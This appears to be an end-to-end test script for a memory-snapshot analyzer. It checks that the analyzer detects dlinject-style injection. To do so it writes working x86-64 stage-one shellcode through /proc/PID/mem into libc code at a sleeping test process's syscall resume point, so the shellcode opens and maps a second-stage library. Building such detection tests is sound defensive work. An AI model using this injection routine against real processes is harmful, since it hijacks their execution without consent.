#!/bin/bash
# dlinject's technique: stage-one shellcode (save the registers, open and
# mmap a payload: two system calls) written through /proc/PID/mem over
# libc's code at a sleeping thread's resume point, the instruction after
# its syscall.  It runs as soon as the thread wakes.  check: a high
# code_patch in libc that says a thread is about to execute it, that it
# adds system calls and saves the registers; its disassembly starts at an
# instruction boundary on both sides.
. "$(dirname "$0")/lib.sh"
EXPECT="python3 $E2E/analyze_check_expect.py"
require_tools
require_ptrace
[ "$(id -u)" = 0 ] ||
	skip "writing another process's code through /proc/PID/mem needs root here"

cat >"$SCRATCH/sleeper.c" <<'C'
#include <stdio.h>
#include <sys/prctl.h>
#include <unistd.h>
int main(void)
{
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
	puts("ready");
	fflush(stdout);
	for (;;)
		pause();
}
C
cc -O1 -o "$SCRATCH/sleeper" "$SCRATCH/sleeper.c" || fail "cannot build sleeper"
start_victim "$SCRATCH/sleeper"
# The resume point: /proc/PID/syscall ends with the stack and instruction
# pointers of a thread blocked in a system call.
wait_for grep -q '^34 ' "/proc/$VICTIM_PID/syscall" ||
	fail "the victim is not blocked in pause()"
pc=$(awk '{ print $NF }' "/proc/$VICTIM_PID/syscall")
python3 - "$VICTIM_PID" "$pc" <<'PY' || fail "cannot write the stage-one shellcode"
import sys
pid, pc = int(sys.argv[1]), int(sys.argv[2], 16)
stage1 = bytes.fromhex(
    "50 57 56 52 4152 4150 4151"        # push rax, rdi, rsi, rdx, r10, r8, r9
    "488d3d2d000000"                    # lea rdi, [rip + path]
    "31f6 b802000000 0f05"              # open(path, 0)
    "4989c0 31ff be00100000 ba05000000" # fd; mmap(0, 4096, r-x,
    "41ba02000000 4531c9 b809000000"    #   MAP_PRIVATE, fd, 0)
    "0f05 ffe0") + b"/tmp/memsnap-stage2.so\0"
with open("/proc/%d/mem" % pid, "r+b", buffering=0) as mem:
    mem.seek(pc)
    mem.write(stage1)
print("patched 0x%x" % pc)
PY
snap=$SCRATCH/resume.msnap
capture "$snap"
assert_running

assert_exit 1 "$ANALYZE" check --format json "$snap"
report=$SCRATCH/report.json
cp "$SCRATCH/last.out" "$report"
$EXPECT "$report" find code_patch severity=high 'module~libc.so' \
	"evidence~thread $VICTIM_PID is about to execute it" \
	'evidence~adds 2 system call instructions' \
	'evidence~saves the registers' ||
	fail "stage one at the resume point is not a high code_patch"
# Both listings start at the same instruction boundary, at or before the
# patch, and the memory side shows the shellcode's system calls.
$JSON_GET "$report" "[f for f in doc['findings'] if f['type'] == 'code_patch'][0]['disasm_after']" \
	>"$SCRATCH/after.txt" || fail "no disassembly of the patch"
assert_contains "$SCRATCH/after.txt" "syscall"
assert_contains "$SCRATCH/after.txt" "push r10"
first_before=$($JSON_GET "$report" "[f for f in doc['findings'] if f['type'] == 'code_patch'][0]['disasm_before'].split(':')[0]")
first_after=$($JSON_GET "$report" "[f for f in doc['findings'] if f['type'] == 'code_patch'][0]['disasm_after'].split(':')[0]")
assert_eq "$first_before" "$first_after" "first address of both listings"
log "stage one at the resume point: high code_patch"
